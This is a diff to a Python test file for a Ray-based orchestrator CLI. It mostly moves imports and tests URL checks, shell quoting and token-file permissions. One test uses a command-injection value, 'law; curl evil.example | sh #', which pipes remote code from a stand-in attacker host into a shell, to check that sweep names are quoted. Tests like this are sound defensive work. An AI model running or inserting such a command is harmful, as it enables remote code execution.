@@ -165,7 +165,7 @@ def test_every_socket_of_the_embedded_ray_listens_on_loopback(embedded_sweep, re
     ("ftp://127.0.0.1", False), ("http://", False),
 ])
 def test_dashboard_urls_that_may_carry_the_token(url, allowed):
-    from orchestrator.cli.main import dashboard_url_problem
+    from orchestrator.tune.jobs import dashboard_url_problem
 
     problem = dashboard_url_problem(url)
     assert (problem is None) is allowed, problem
@@ -186,7 +186,7 @@ def test_plain_http_to_another_host_is_refused_before_anything_is_sent():
 def test_the_law_job_quotes_the_sweep_name_for_the_shell():
     import shlex
 
-    from orchestrator.cli.main import law_job_entrypoint
+    from orchestrator.tune.jobs import law_job_entrypoint
 
     assert law_job_entrypoint(None) == "memlaw law --address auto --json"
     hostile = "law; curl evil.example | sh #"
@@ -200,6 +200,7 @@ def test_rays_token_file_is_tightened_to_0600(tmp_path, monkeypatch):
     import types
 
     from orchestrator.cli import main as cli
+    from orchestrator.cli.output import EXIT_BAD_INPUT
     from orchestrator.tune import ray_session
 
     token = tmp_path / "auth_token"
@@ -220,5 +221,5 @@ def test_rays_token_file_is_tightened_to_0600(tmp_path, monkeypatch):
     # the CLI tightens it after any command that imported Ray (here a stand-in module)
     monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(token))
     monkeypatch.setitem(sys.modules, "ray", types.ModuleType("ray"))
-    assert cli.main(["law", "--dashboard", "http://10.255.255.1:8265"]) == cli.EXIT_BAD_INPUT
+    assert cli.main(["law", "--dashboard", "http://10.255.255.1:8265"]) == EXIT_BAD_INPUT
     assert stat.S_IMODE(token.stat().st_mode) == 0o600
